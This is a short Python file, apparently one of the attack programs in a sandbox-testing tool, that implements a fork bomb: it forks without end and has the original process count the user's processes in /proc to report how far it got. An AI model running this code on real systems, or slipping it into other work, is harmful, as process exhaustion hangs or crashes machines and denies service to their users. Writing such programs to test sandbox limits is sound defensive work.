"""Forks without end; every process that is made does the same."""

import os

from stockade.cli.attack.programs.kit import reached


def attack() -> None:
    first = os.getpid()
    while True:
        try:
            os.fork()
        except OSError:
            pass
        if os.getpid() == first:
            reached(sum(name.isdigit() and _mine(name) for name in os.listdir("/proc")))


def _mine(pid: str) -> bool:
    try:
        return os.stat("/proc/" + pid).st_uid == os.getuid()
    except OSError:
        return False


if __name__ == "__main__":
    attack()
